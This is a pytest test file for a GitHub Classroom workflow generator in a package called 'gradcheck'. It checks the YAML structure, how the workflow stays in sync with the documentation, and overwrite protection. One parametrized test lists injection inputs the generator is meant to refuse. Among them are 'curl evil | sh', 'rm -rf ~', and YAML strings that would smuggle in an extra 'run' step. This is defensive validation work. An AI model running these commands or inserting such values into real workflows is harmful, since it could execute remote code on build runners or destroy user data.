"""The GitHub Classroom workflow: valid YAML with the documented steps, kept in sync with
docs/classroom.md, written without clobbering an existing workflow."""

import re
from pathlib import Path

import pytest
import yaml

from gradcheck.errors import UsageError
from gradcheck.render.workflow import WorkflowExistsError, workflow_yaml, write_classroom

DOC = Path(__file__).resolve().parents[2] / "docs" / "classroom.md"
SPEC = "gradcheck==0.1.0"
DOC_SPEC = "gradcheck @ git+https://github.com/your-course/gradcheck@v0.1.0"


def job(text):
    data = yaml.safe_load(text)
    assert list(data["jobs"]) == ["run-autograding-tests"]
    return data, data["jobs"]["run-autograding-tests"]


def test_workflow_has_the_triggers_permissions_and_steps():
    data, run = job(workflow_yaml("sheet01", python="3.12",
                                  package_spec="gradcheck==0.1.0"))
    assert data["name"] == "Autograding Tests"
    assert data["on"] == ["push", "workflow_dispatch", "repository_dispatch"]
    assert data["permissions"] == {"actions": "read", "contents": "read"}
    assert run["runs-on"] == "ubuntu-latest"
    checkout, python, install, grade, report = run["steps"]
    assert checkout["uses"].startswith("actions/checkout@")
    assert python["uses"].startswith("actions/setup-python@")
    assert python["with"] == {"python-version": "3.12"}
    assert install["run"].strip() == "python -m pip install gradcheck==0.1.0"
    assert grade["id"] == "gradcheck" and grade["run"] == "gradcheck grade sheet01 --github"
    assert report["uses"] == "classroom-resources/autograding-grading-reporter@v1"
    assert report["env"] == {"GRADCHECK_RESULTS": "${{ steps.gradcheck.outputs.result }}"}
    assert report["with"] == {"runners": "gradcheck"}
    assert report["if"] == "${{ !cancelled() }}"


def test_docs_show_the_workflow_and_name_every_step():
    doc = DOC.read_text(encoding="utf-8")
    blocks = re.findall(r"```yaml\n(.*?)```", doc, re.S)
    assert workflow_yaml("sheet01", package_spec=DOC_SPEC) in blocks
    _, run = job(workflow_yaml("sheet01", package_spec=DOC_SPEC))
    for step in run["steps"]:
        assert f"**{step['name']}**" in doc, step["name"]
    for fact in ("id: gradcheck", "GRADCHECK_RESULTS", "runners: gradcheck",
                 "steps.gradcheck.outputs.result", "run-autograding-tests",
                 "GITHUB_ACTIONS=true", "GITHUB_OUTPUT", "gradcheck batch"):
        assert fact in doc, fact


def test_write_classroom_refuses_to_overwrite_unless_forced(tmp_path):
    (path,) = write_classroom(tmp_path, "sheet01", package_spec=SPEC)
    assert path == tmp_path / ".github" / "workflows" / "classroom.yml"
    assert path.read_text(encoding="utf-8") == workflow_yaml("sheet01", package_spec=SPEC)
    path.write_text("mine")
    with pytest.raises(WorkflowExistsError, match="already exists") as caught:
        write_classroom(tmp_path, "sheet02", package_spec=SPEC)
    assert isinstance(caught.value, FileExistsError) and isinstance(caught.value, UsageError)
    assert path.read_text() == "mine"
    write_classroom(tmp_path, "sheet02", package_spec=SPEC, force=True)
    assert "gradcheck grade sheet02 --github" in path.read_text()


@pytest.mark.parametrize("arguments", [
    {"sheet": "sheet01; curl evil | sh", "package_spec": SPEC},
    {"sheet": "sheet01\n  evil: 1", "package_spec": SPEC},
    {"sheet": "", "package_spec": SPEC},
    {"sheet": "sheet01", "python": '3.11"\nfoo: 1', "package_spec": SPEC},
    {"sheet": "sheet01", "package_spec": "gradcheck\n      - run: evil"},
    {"sheet": "sheet01", "package_spec": "gradcheck; rm -rf ~"},
    {"sheet": "sheet01", "package_spec": "gradcheck 'x'"},
])
def test_values_that_would_break_out_are_refused(arguments):
    with pytest.raises(UsageError, match="cannot go into the workflow"):
        workflow_yaml(**arguments)


def test_unusual_but_valid_package_specs_stay_one_shell_word():
    _, run = job(workflow_yaml("exercises/sheet01.yaml",
                               package_spec="git+https://github.com/o/gradcheck@v1#egg=gradcheck"))
    assert run["steps"][2]["run"].strip() == (
        "python -m pip install 'git+https://github.com/o/gradcheck@v1#egg=gradcheck'")
    assert run["steps"][3]["run"] == "gradcheck grade exercises/sheet01.yaml --github"


def test_the_documented_commands_work(tmp_path, monkeypatch):
    """The doc shows the CLI that writes the workflow and the batch that re-grades; both run
    as written."""
    import shlex

    from click.testing import CliRunner

    from gradcheck.cli import main

    doc = DOC.read_text(encoding="utf-8")
    commands = [line.strip() for line in doc.splitlines()   # the lines of its code blocks
                if line.strip().startswith("gradcheck ")]
    init = next(c for c in commands if c.startswith("gradcheck classroom init "))
    assert next(c for c in commands if c.startswith("gradcheck batch "))
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, shlex.split(init)[1:])
    assert result.exit_code == 0, result.output
    assert yaml.safe_load((tmp_path / ".github/workflows/classroom.yml").read_text())
